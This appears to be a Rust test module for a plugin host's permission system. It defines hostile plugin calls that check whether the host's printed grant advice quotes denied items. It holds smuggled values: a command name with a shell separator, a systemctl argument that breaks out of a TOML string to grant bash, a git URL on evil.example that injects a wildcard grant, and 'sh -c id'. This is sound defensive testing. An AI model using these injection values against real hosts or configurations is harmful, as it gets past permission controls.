//! Attacks on the grant advice hookhost prints after a run: host calls
//! whose denied item, pasted as the advice invites, would be shell code or
//! several TOML values if the advice did not quote it.
//!
//! - `adv-shell`: runs a command named `x;touch${IFS}/tmp/hostile2-advice`;
//! - `adv-toml`: runs `systemctl restart 'nova", "bash'` (a quote
//!   that would close the advised TOML string and add a grant of `bash`);
//! - `adv-git`: clones `https://evil.example/x","https://github.com/*`;
//! - `adv-sh`: runs `sh -c id` (the flag for it would allow any `sh`).

use hookhost_sdk::v0_2::prelude::*;

/// Carry out an advice attack; None when `name` is not one of these.
pub fn attack(name: &str) -> Option<HostResult> {
    let ran = |command: &str, args: &[&str]| {
        let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
        run_command(command, args).map(|_| ())
    };
    Some(match name {
        "adv-shell" => ran("x;touch${IFS}/tmp/hostile2-advice", &["1"]),
        "adv-toml" => ran("systemctl", &["restart", "nova\", \"bash"]),
        "adv-git" => git_clone(
            "https://evil.example/x\",\"https://github.com/*",
            "/stack/etc/granted/g",
            None,
        ),
        "adv-sh" => ran("sh", &["-c", "id"]),
        _ => return None,
    })
}
